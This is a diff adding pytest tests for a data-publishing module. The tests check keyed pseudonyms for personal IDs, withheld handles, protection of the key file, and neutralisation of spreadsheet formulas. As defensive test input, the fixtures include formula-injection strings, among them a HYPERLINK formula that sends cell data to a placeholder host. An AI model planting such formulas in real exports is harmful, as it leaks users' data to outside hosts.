@@ -10,7 +10,18 @@ import duckdb
 import polars as pl
 import pytest
 
-from trustcap.publish import KEEP_READY, KEEP_SETS, publish
+from trustcap.publish import (
+    KEEP_READY,
+    KEEP_SETS,
+    PersonalData,
+    _pseudonym_sql,
+    is_formula,
+    pseudonym,
+    pseudonym_key,
+    publish,
+    published_tables,
+)
+from trustcap.warehouse import sql_string
 
 
 def _warehouse(path: Path, value: int) -> None:
@@ -266,3 +277,141 @@ def test_empty_marts_are_explained_by_their_missing_inputs():
         "a": "no rows in landing entity social/activities",
         "b": "its inputs have rows, but none qualifies (see the mart's description)",
     }
+
+
+# --- what reaches BI: pseudonyms, handles, formula text -----------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1",
+    "\r=1",
+    "\uff1d1+1",
+]
+HARMLESS = ["-5", "+3.5", "1e-3", "normal text", "a=b", "", "'quoted"]
+
+
+def _people_warehouse(path: Path) -> None:
+    con = duckdb.connect(str(path))
+    con.execute("create schema marts")
+    con.execute(
+        "create table marts.people as select * from (values "
+        "('C1', '@alice', 0.9), ('C2', '=HYPERLINK(\"x\")', 0.2), ('C''3 é', null, 0.5)) "
+        "t(contact_id, handle, score)"
+    )
+    con.execute(
+        "create table marts.accounts as select * from (values "
+        "('tw-1', 'C1'), ('tw-2', null)) t(account_id, contact_id)"
+    )
+    texts = ", ".join(f"({sql_string(t)})" for t in FORMULAS + HARMLESS)
+    con.execute(f"create table marts.texts as select * from (values {texts}) t(text)")
+    con.execute(
+        "create table marts.lists as select ['=1+1', 'ok', '-4'] as tags, 'brand' as handle"
+    )
+    con.close()
+
+
+PERSONAL = {
+    "people": {"contact_id": "contact", "handle": "handle"},
+    "accounts": {"account_id": "social_account", "contact_id": "contact"},
+}
+
+
+def _published_values(pub) -> dict[str, list[tuple]]:
+    """Every published table, read through the catalog and from its Parquet file."""
+    con = duckdb.connect(str(pub.path), read_only=True)
+    try:
+        out = {}
+        for table in published_tables(con):
+            via_catalog = sorted(con.execute(f"select * from marts.{table}").fetchall(), key=repr)
+            via_parquet = sorted(
+                pl.read_parquet(pub.parquet_dir / f"{table}.parquet").rows(), key=repr
+            )
+            assert via_catalog == via_parquet, table
+            out[table] = via_catalog
+        return out
+    finally:
+        con.close()
+
+
+def test_people_get_keyed_pseudonyms_and_their_handles_are_withheld(tmp_path):
+    wh = tmp_path / "warehouse.duckdb"
+    _people_warehouse(wh)
+    key = pseudonym_key(tmp_path / "pseudonym.key")
+    pub = publish(
+        wh,
+        tmp_path / "published",
+        ["people", "accounts", "texts", "lists"],
+        personal=PersonalData(key=key, columns=PERSONAL),
+    )
+    got = _published_values(pub)
+    people = {r[0]: r for r in got["people"]}
+    # the same person, the same pseudonym in every mart: marts still join
+    assert set(people) == {pseudonym(c, "contact", key) for c in ("C1", "C2", "C'3 é")}
+    assert all(r[1] is None for r in got["people"])  # people's handles: not published
+    accounts = dict(got["accounts"])
+    assert accounts[pseudonym("tw-1", "social_account", key)] == pseudonym("C1", "contact", key)
+    assert accounts[pseudonym("tw-2", "social_account", key)] is None
+    # no raw id, no handle of a person anywhere in the publication
+    published_text = repr(got)
+    for raw in ("C1", "C2", "C'3", "tw-1", "alice", 'HYPERLINK("x")'):
+        assert raw not in published_text
+
+
+def test_raw_ids_are_published_only_when_the_owner_says_so(tmp_path):
+    wh = tmp_path / "warehouse.duckdb"
+    _people_warehouse(wh)
+    key = pseudonym_key(tmp_path / "pseudonym.key")
+    pub = publish(
+        wh,
+        tmp_path / "published",
+        ["people", "accounts"],
+        personal=PersonalData(key=key, columns=PERSONAL, publish_raw=True),
+    )
+    got = _published_values(pub)
+    assert {r[0] for r in got["people"]} == {"C1", "C2", "C'3 é"}
+    # raw, but still never a formula: a handle is text that reaches BI
+    assert {r[1] for r in got["people"]} == {"'@alice", '\'=HYPERLINK("x")', None}
+    assert dict(got["accounts"]) == {"tw-1": "C1", "tw-2": None}
+
+
+def test_text_that_starts_a_formula_is_neutralised_in_the_catalog_and_the_parquet(tmp_path):
+    wh = tmp_path / "warehouse.duckdb"
+    _people_warehouse(wh)
+    pub = publish(wh, tmp_path / "published", ["texts", "lists"])
+    got = _published_values(pub)
+    texts = {r[0] for r in got["texts"]}
+    assert texts == {"'" + f for f in FORMULAS} | set(HARMLESS)
+    assert not any(is_formula(t) for t in texts)
+    assert all(is_formula(f) for f in FORMULAS) and not any(is_formula(h) for h in HARMLESS)
+    assert got["lists"] == [(["'=1+1", "ok", "-4"], "brand")]
+
+
+def test_the_sql_pseudonym_is_hmac_sha256(tmp_path):
+    key = pseudonym_key(tmp_path / "k")
+    values = ["C0000001", "é ü 漢字", "it's", "", "x" * 300]
+    con = duckdb.connect()
+    con.execute("create table t as select unnest($1) as v", [values])
+    got = dict(con.execute(f"select v, {_pseudonym_sql('v', 'contact', key)} from t").fetchall())
+    assert got == {v: pseudonym(v, "contact", key) for v in values}
+    assert pseudonym("C1", "contact", key) != pseudonym("C1", "social_account", key)
+
+
+def test_the_pseudonym_key_is_made_once_owner_only_and_kept_out_of_published(tmp_path):
+    path = tmp_path / "warehouse" / "pseudonym.key"
+    key = pseudonym_key(path)
+    assert len(key) == 32 and pseudonym_key(path) == key
+    assert path.stat().st_mode & 0o777 == 0o600
+    wh = tmp_path / "warehouse.duckdb"
+    _people_warehouse(wh)
+    pub = publish(
+        wh,
+        tmp_path / "warehouse" / "published",
+        ["people"],
+        personal=PersonalData(key=key, columns={"people": PERSONAL["people"]}),
+    )
+    for f in pub.path.parent.rglob("*"):
+        if f.is_file():
+            assert key.hex().encode() not in f.read_bytes() and key not in f.read_bytes()
